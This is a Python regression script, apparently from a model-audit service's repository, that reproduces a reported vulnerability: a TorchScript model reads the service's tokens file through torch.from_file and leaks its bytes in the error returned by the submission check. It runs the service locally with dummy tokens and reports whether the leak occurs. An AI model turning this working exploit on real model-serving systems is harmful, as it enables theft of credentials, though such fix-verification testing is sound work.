"""The from_file attack of issue 8 against a running service: a TorchScript model reads the tokens file
with ``aten::from_file`` and puts its bytes into the exception the submission-time model check returns.

    .venv/bin/python benchmarks/attack_from_file.py REPO   # REPO: a checkout of the service to attack

Starts that checkout's ``audit-service serve`` on a free loopback port with tokens, submits the model and
prints whether the 422 leaked the file. On 739fadd: "LEAKED the tokens file"; with the cage: "no leak".
"""
import json, os, subprocess, sys, time, socket, requests, torch
from typing import List
from pathlib import Path
import tempfile
root = Path(tempfile.mkdtemp(prefix="from-file-attack-")); root.mkdir(exist_ok=True)
tokens = root / "tokens"; tokens.write_text("bob-token-0123456789abcdef:bob\n")
class FromFile(torch.nn.Module):
    def __init__(self, path: str, size: int):
        super().__init__(); self.path = path; self.size = size; self.fc = torch.nn.Linear(144, 10)
    def forward(self, x):
        t = torch.from_file(self.path, shared=False, size=self.size, dtype=torch.uint8)
        stolen: List[int] = t.long().tolist()
        if len(stolen) > 0:
            raise RuntimeError("STOLEN" + str(stolen))
        return self.fc(x.flatten(1))
m = torch.jit.script(FromFile(str(tokens), len(tokens.read_bytes())))
torch.jit.save(m, str(root / "evil.pt"), _extra_files={"input_shape.json": "[1, 12, 12]"})
repo = sys.argv[1]
s = socket.socket(); s.bind(("127.0.0.1", 0)); port = s.getsockname()[1]; s.close()
env = {**os.environ, "AUDIT_DATA_DIR": str(root / f"data-{Path(repo).name}"), "PYTHONPATH": repo,
       "AUDIT_TOKENS": "admin-token-0123456789abcdef:admin", "AUDIT_TOKENS_FILE": str(tokens)}
p = subprocess.Popen([sys.executable, "-m", "audit_service.cli", "serve", "--port", str(port), "--workers", "0", "--web-workers", "1"], env=env, cwd=repo, stdout=open(root / "log", "w"), stderr=subprocess.STDOUT)
url = f"http://127.0.0.1:{port}"
for _ in range(300):
    try:
        requests.get(url + "/healthz", timeout=1); break
    except Exception: time.sleep(0.3)
r = requests.post(url + "/audit", headers={"Authorization": "Bearer bob-token-0123456789abcdef"},
                  files={"model": ("evil.pt", (root / "evil.pt").read_bytes())}, data={"spec": json.dumps({"group": "flip", "shifts": []})}, timeout=120)
stolen = str(list(tokens.read_bytes()[:16]))[1:-1]
print(repo, r.status_code, "LEAKED the tokens file" if stolen in r.text else "no leak", "|", r.json().get("detail", "")[:160])
p.terminate(); p.wait(30)
